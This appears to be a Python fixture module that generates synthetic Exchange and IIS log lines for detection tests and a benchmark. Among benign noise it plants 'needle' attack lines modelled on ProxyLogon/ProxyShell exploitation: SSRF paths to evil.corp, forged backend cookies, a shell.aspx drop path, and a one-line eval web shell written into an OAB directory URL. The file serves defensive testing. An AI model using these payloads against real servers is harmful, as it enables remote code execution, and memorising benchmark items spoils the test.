"""Synthetic IIS, HttpProxy, ECP Server and OABGenerator log lines for tests and the benchmark generator.

SYNTHETIC: the headers and column lists follow the published formats (IIS 10 default W3C fields, the
Exchange 2019 HttpProxy ``#Fields`` list); the values are made up, deterministic from a seed. The ECP
Server column list is modelled on the Exchange log header shape (no public raw sample exists).
"""

from __future__ import annotations

import random


def columns(header: str, separator: str) -> list[str]:
    """The column names of a ``#Fields`` value as the log writes it."""
    return header.split(separator)


IIS_FIELDS = columns("date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
              "cs(Referer) sc-status sc-substatus sc-win32-status time-taken", " ")

HTTPPROXY_FIELDS = columns(
    "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,"
    "UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,"
    "AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,"
    "ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,ServerLocatorHost,"
    "ServerLocatorLatency,RequestBytes,ResponseBytes,TargetOutstandingRequests,AuthModulePerfContext,"
    "HttpPipelineLatency,CalculateTargetBackEndLatency,GlsLatencyBreakup,TotalGlsLatency,"
    "AccountForestLatencyBreakup,TotalAccountForestLatency,ResourceForestLatencyBreakup,"
    "TotalResourceForestLatency,ADLatency,SharedCacheLatencyBreakup,TotalSharedCacheLatency,"
    "ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,ClientReqStreamLatency,BackendReqInitLatency,"
    "BackendReqStreamLatency,BackendProcessingLatency,BackendRespInitLatency,BackendRespStreamLatency,"
    "ClientRespStreamLatency,KerberosAuthHeaderLatency,HandlerCompletionLatency,RequestHandlerLatency,"
    "HandlerToModuleSwitchingLatency,ProxyTime,CoreLatency,RoutingLatency,HttpProxyOverhead,TotalRequestTime,"
    "RouteRefresherLatency,UrlQuery,BackEndGenericInfo,GenericInfo,GenericErrors,EdgeTraceId,DatabaseGuid,"
    "UserADObjectGuid,PartitionEndpointLookupLatency,RoutingStatus", ",")

ECP_SERVER_FIELDS = columns("DateTime,ServerName,Version,RequestId,UserId,ClientIpAddress,Protocol,EventData", ",")

BUILD = "15.02.0792.003"
USER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 "
    "Safari/537.36",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13628; Pro)",
    "Apple-iPhone12C1/1802.42",
    "MSRPC",
    "Microsoft WinRM Client",
    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; Win64; x64; Trident/7.0; MSEXCHMON; ACTIVEMONITORING)",
)
IIS_PATHS = (
    ("GET", "/owa/", ""), ("POST", "/owa/service.svc", "action=GetItem&EP=1&ID=-42&AC=1"),
    ("POST", "/EWS/Exchange.asmx", ""), ("POST", "/Microsoft-Server-ActiveSync/default.eas",
                                         "Cmd=Sync&User=jdoe&DeviceId=ANDROIDC12345&DeviceType=Android"),
    ("RPC_IN_DATA", "/rpc/rpcproxy.dll", "mail.contoso.com:6001"), ("POST", "/mapi/emsmdb/", "mailboxId=abc"),
    ("GET", "/ecp/default.aspx", ""), ("POST", "/Autodiscover/Autodiscover.xml", ""),
    ("GET", "/owa/auth/15.2.792/themes/resources/favicon.ico", ""),
)
PROTOCOLS = ("Owa", "Ews", "Eas", "Mapi", "RpcHttp", "Autodiscover", "Ecp", "PowerShell", "Oab")
USERS = ("CONTOSO\\jdoe", "CONTOSO\\asmith", "CONTOSO\\svc-backup", "", "CONTOSO\\HealthMailbox0f2a")

# Attack lines (the "needles"), public indicators of ProxyLogon/ProxyShell exploitation.
IIS_ATTACKS = (
    "{d} {t} 10.0.0.5 POST /owa/auth/x.js - 443 - 203.0.113.50 ExchangeServicesClient/0.0.0.0 - 200 0 0 12",
    "{d} {t} 10.0.0.5 POST /ecp/y.js - 443 - 203.0.113.50 python-requests/2.25.1 - 200 0 0 31",
    "{d} {t} 10.0.0.5 GET /autodiscover/autodiscover.json @evil.corp/mapi/nspi/?&Email=autodiscover/"
    "autodiscover.json%3F@evil.corp 443 - 198.51.100.7 Mozilla/5.0+zgrab/0.x - 200 0 0 40",
)
HTTPPROXY_ATTACK_CHANGES = (
    {"UrlStem": "/ecp/y.js", "AnchorMailbox": "ServerInfo~a]@EX01.contoso.local:444/autodiscover/"
     "autodiscover.xml?#", "BackEndCookie": "X-BEResource=EX01/EWS/Exchange.asmx?a=~1942062522",
     "AuthenticatedUser": "", "Method": "POST", "HttpStatus": "200", "UserAgent": "ExchangeServicesClient/0.0.0.0"},
    {"UrlStem": "/ecp/proxyLogon.ecp", "AnchorMailbox": "ServerInfo~a]@EX01.contoso.local:444/ecp/"
     "proxyLogon.ecp?#", "Method": "POST", "HttpStatus": "241", "UserAgent": "python-requests/2.25.1"},
)


def iis_header(day: str, clock: str = "00:00:01") -> str:
    return ("#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n"
            f"#Date: {day} {clock}\r\n#Fields: {' '.join(IIS_FIELDS)}\r\n")


def exchange_header(log_type: str, fields: list[str], day: str) -> str:
    return (f"#Software: Microsoft Exchange Server\r\n#Version: {BUILD}\r\n#Log-type: {log_type}\r\n"
            f"#Date: {day}T00:00:00.000Z\r\n#Fields: {','.join(fields)}\r\n")


def _clock(rng: random.Random, second: int) -> str:
    return f"{second // 3600 % 24:02d}:{second // 60 % 60:02d}:{second % 60:02d}"


def iis_line(rng: random.Random, day: str, second: int) -> str:
    method, stem, query = rng.choice(IIS_PATHS)
    user = rng.choice(USERS) or "-"
    agent = rng.choice(USER_AGENTS).replace(" ", "+")
    status = rng.choice(("200", "200", "200", "302", "401", "440"))
    return (f"{day} {_clock(rng, second)} 10.0.0.5 {method} {stem} {query or '-'} 443 {user} "
            f"192.168.{rng.randrange(1, 250)}.{rng.randrange(1, 250)} {agent} - {status} 0 0 {rng.randrange(1, 900)}")


def csv_field(value: str) -> str:
    if any(c in value for c in ',"\r\n'):
        return '"' + value.replace('"', '""') + '"'
    return value


def httpproxy_values(rng: random.Random, day: str, second: int, protocol: str) -> dict[str, str]:
    values = dict.fromkeys(HTTPPROXY_FIELDS, "")
    millis = rng.randrange(1000)
    values.update({
        "DateTime": f"{day}T{_clock(rng, second)}.{millis:03d}Z",
        "RequestId": f"{rng.getrandbits(128):032x}", "MajorVersion": "15", "MinorVersion": "2",
        "BuildVersion": "792", "RevisionVersion": "3", "Protocol": protocol, "UrlHost": "mail.contoso.com",
        "UrlStem": f"/{protocol.lower()}/service.svc", "ProtocolAction": rng.choice(("GetItem", "Sync", "")),
        "AuthenticationType": "Negotiate", "IsAuthenticated": "True",
        "AuthenticatedUser": rng.choice(("jdoe@contoso.com", "asmith@contoso.com")),
        "AnchorMailbox": "Smtp~jdoe@contoso.com", "UserAgent": rng.choice(USER_AGENTS),
        "ClientIpAddress": f"192.168.{rng.randrange(1, 250)}.{rng.randrange(1, 250)}",
        "ServerHostName": "EX01", "HttpStatus": "200", "BackEndStatus": "200", "Method": "POST",
        "ProxyAction": "Proxy", "TargetServer": "ex01.contoso.local", "TargetServerVersion": "Version 15.2 "
        "(Build 792.3)", "RoutingType": "DatabaseGuid", "RequestBytes": str(rng.randrange(100, 9000)),
        "ResponseBytes": str(rng.randrange(100, 90000)), "TotalRequestTime": str(rng.randrange(1, 400)),
        "GenericInfo": "ProxyState-Run=None;BEVersion=1942061571;", "RoutingStatus": "",
    })
    return values


def httpproxy_line(values: dict[str, str]) -> str:
    return ",".join(csv_field(values[name]) for name in HTTPPROXY_FIELDS)


def ecp_server_line(rng: random.Random, day: str, second: int, event: str) -> str:
    values = [f"{day}T{_clock(rng, second)}.{rng.randrange(1000):03d}Z", "EX01", BUILD,
              f"{rng.getrandbits(64):016x}", "CONTOSO\\admin", "192.168.1.20", "Ecp", event]
    return ",".join(csv_field(v) for v in values)


def ecp_benign_event(rng: random.Random) -> str:
    return rng.choice(("S:CMD=Get-Mailbox.Identity='jdoe';S:Status=Success",
                       "S:CMD=Get-Recipient.ResultSize='500';S:Status=Success",
                       "S:CMD=Get-User.Identity='asmith';S:Status=Success",
                       "S:CMD=Get-MailboxStatistics.Identity='jdoe';S:Status=Success",
                       "S:CMD=Get-DistributionGroup.ResultSize='500';S:Status=Success",
                       "S:CMD=Get-OrganizationConfig;S:Status=Success",
                       "S:CMD=Get-MobileDevice.Mailbox='jdoe';S:Status=Success",
                       "S:CMD=Get-SendConnector;S:Status=Success",
                       "S:CMD=Get-OwaVirtualDirectory;S:Status=Success",
                       'S:CMD=Set-Mailbox.Identity="asmith",ForwardingAddress="";S:Status=Success'))


ECP_ATTACK_EVENT = ("S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" "
                    "runat=\"server\">function Page_Load(){eval(Request[\"code\"],\"unsafe\");}</script>'."
                    "Identity='EX01\\OAB (Default Web Site)';S:Status=Success")


def oab_line(rng: random.Random, day: str, second: int, message: str) -> str:
    return f"{day}T{_clock(rng, second)}.{rng.randrange(1000):03d}Z,0x{rng.randrange(65536):04X},OABGen,{message}"


OAB_BENIGN = ("Beginning generation of OAB 'Default Offline Address Book'",
              "Finished generation of OAB 'Default Offline Address Book'; 1204 entries",
              "Downloaded 12 files from the OAB web distribution point")
OAB_ATTACK = ("Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\"
              "FrontEnd\\HttpProxy\\owa\\auth\\shell.aspx' is removed")
